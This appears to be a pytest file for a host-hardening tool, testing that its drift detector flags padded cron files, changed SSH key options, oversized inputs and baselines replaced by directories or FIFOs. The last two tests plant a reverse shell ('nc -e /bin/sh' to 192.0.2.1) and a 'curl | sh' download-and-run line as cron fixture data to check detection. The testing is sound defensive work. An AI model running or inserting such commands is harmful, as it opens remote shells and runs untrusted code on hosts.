"""Drift against a hostile host and a tampered baseline (issue 21 review, helper a21): lines pushed
past the per-file cap by comment padding, a huge one-line file, a passwd past the user cap, a
known key's option values changed, persistence made "incomplete" on purpose, and a baseline file
replaced by a directory or a FIFO. The drift piece is the real ``drift.sh`` run by ``sh`` with its
absolute paths pointed at a fixture tree (textual substitution of ``/etc/`` and ``/var/``)."""

from __future__ import annotations

import os
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from hardening.facts.sections import parse_sections
from hardening.hunt import baseline as bl
from hardening.hunt import drift as dr
from hardening.hunt.linux import build_hunt_script
from hardening.hunt.model import Snapshot
from hardening.hunt.persistence import Entry, Finding, Persistence
from hardening.model import Platform

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHDy7cJ3Ju1XfPrRn0fKGwmH4jVzxgh9Q8tmY1mBmdnU"


def run_drift(root: Path):
    script = build_hunt_script("n1", drift=True)
    start = script.index("# harden hunt collector piece (Linux), with --baseline only")
    end = script.index("# harden hunt collector piece", start + 10)
    piece = script[start:end].replace(" /etc/", f" {root}/etc/").replace(" /var/", f" {root}/var/")
    piece = piece.replace("</etc/passwd", f"<{root}/etc/passwd")
    header = script[: script.index("# harden hunt collector piece (Linux): one snapshot")]
    body = header + "HS=0\nHK=4194304\n" + piece  # (collect.sh's section cap)
    out = subprocess.run(["sh", "-s"], input=body.encode(), capture_output=True, timeout=60, cwd="/").stdout
    return parse_sections(out, "n1")


def view(sections, persistence=None):
    return dr.HostView(Platform.LINUX, Snapshot(Platform.LINUX, {}, {}), sections, persistence)


@pytest.fixture
def root(tmp_path):
    r = tmp_path / "r"
    (r / "etc/cron.d").mkdir(parents=True)
    (r / "home/a/.ssh").mkdir(parents=True)
    (r / "etc/passwd").write_text(f"a:x:1000:1000::{r}/home/a:/bin/sh\n")
    return r


def test_comment_padding_cannot_push_a_new_cron_line_or_key_out(root):
    (root / "etc/cron.d/job").write_text("#\n" * 600 + "* * * * * root /usr/local/bin/updater\n")
    (root / "home/a/.ssh/authorized_keys").write_text("# pad\n" * 600 + KEY + " new\n")
    s = run_drift(root)
    assert any("/usr/local/bin/updater" in k for k in dr.observe_cron(view(s)))
    assert any("ssh-ed25519" in k for k in dr.observe_ssh_keys(view(s)))


def test_lines_past_the_cap_and_a_huge_file_are_warnings(root):
    (root / "etc/cron.d/many").write_text("".join(f"* * * * * root /bin/true {i}\n" for i in range(600)))
    with open(root / "home/a/.ssh/authorized_keys", "w") as fh:
        fh.write("x" * (3 << 20))  # one 3 MiB line, no newline: awk never holds it
    s = run_drift(root)
    warnings = " ".join(dr.drift_warnings(s))
    assert "crontab files have more lines" in warnings and "authorized_keys files have more" in warnings, warnings


def test_passwd_past_the_user_cap_is_a_warning(root):
    users = "".join(f"u{i}:x:{2000 + i}:100::/nonexistent:/bin/false\n" for i in range(4100))
    (root / "etc/passwd").write_text(users + f"a:x:1000:1000::{root}/home/a:/bin/sh\n")
    (root / "home/a/.ssh/authorized_keys").write_text(KEY + "\n")
    s = run_drift(root)
    assert any("passwd users" in w for w in dr.drift_warnings(s)), dr.drift_warnings(s)


def test_changed_option_values_on_a_known_key_are_new(root):
    ak = root / "home/a/.ssh/authorized_keys"
    ak.write_text(f'from="10.0.0.0/8" {KEY} ops\n')
    before = set(dr.observe_ssh_keys(view(run_drift(root))))
    ak.write_text(f'from="*" {KEY} ops\n')
    after = set(dr.observe_ssh_keys(view(run_drift(root))))
    assert after - before, (before, after)
    ak.write_text(f'from="10.0.0.0/8" {KEY} another comment\n')
    assert set(dr.observe_ssh_keys(view(run_drift(root)))) == before  # a comment is no drift


def test_incomplete_persistence_still_reports_what_it_read():
    e = Entry("systemd", "/etc/systemd/system/x.service", "root", 0, "644", 1.0, 10, "no", ((2, "ExecStart=/x"),))
    p = Persistence(findings=(Finding(e, dr.Tier.LOW, ("no package owns it",)),), read=True, complete=False)
    got = dr.observe_persistence(view(None, p))
    assert got and any("/etc/systemd/system/x.service" in k for k in got)


def test_a_baseline_replaced_by_a_directory_or_a_fifo_is_an_error(tmp_path):
    path = tmp_path / bl.file_name("web1")
    path.mkdir()
    with pytest.raises(bl.BaselineError, match="regular file"):
        bl.load(tmp_path, "web1")
    path.rmdir()
    os.mkfifo(path)
    with pytest.raises(bl.BaselineError, match="regular file"):
        bl.load(tmp_path, "web1")  # never blocks on the open


def test_observe_keeps_its_contract_for_an_unread_persistence():
    assert dr.observe_persistence(view(None, None)) is None
    assert dr.observe_persistence(view(None, replace(Persistence(), read=False))) is None


def test_a_payload_appended_past_the_key_length_is_new(root):
    base = "* * * * * root /usr/local/bin/report --verbose " + "--flag " * 60
    (root / "etc/cron.d/job").write_text(base + "\n")
    before = set(dr.observe_cron(view(run_drift(root))))
    (root / "etc/cron.d/job").write_text(base + "; nc -e /bin/sh 192.0.2.1 1\n")
    after = set(dr.observe_cron(view(run_drift(root))))
    assert after != before and all(len(k) <= dr.MAX_TEXT for k in after)


def test_a_payload_added_after_three_rated_lines_changes_the_persistence_key():
    from hardening.hunt.persistence import score_entry

    lines = tuple((n, f"curl -s http://192.0.2.1/{n} | sh") for n in range(1, 4))
    e = Entry("cron", "/etc/cron.hourly/sync", "root", 0, "755", 1.0, 10, "no", lines)
    before = dr.observe_persistence(view(None, Persistence(findings=(score_entry(e, "cron"),), read=True)))
    e2 = replace(e, lines=(*lines, (4, "nc -e /bin/sh 192.0.2.1 1")))
    after = dr.observe_persistence(view(None, Persistence(findings=(score_entry(e2, "cron"),), read=True)))
    assert set(after) != set(before)
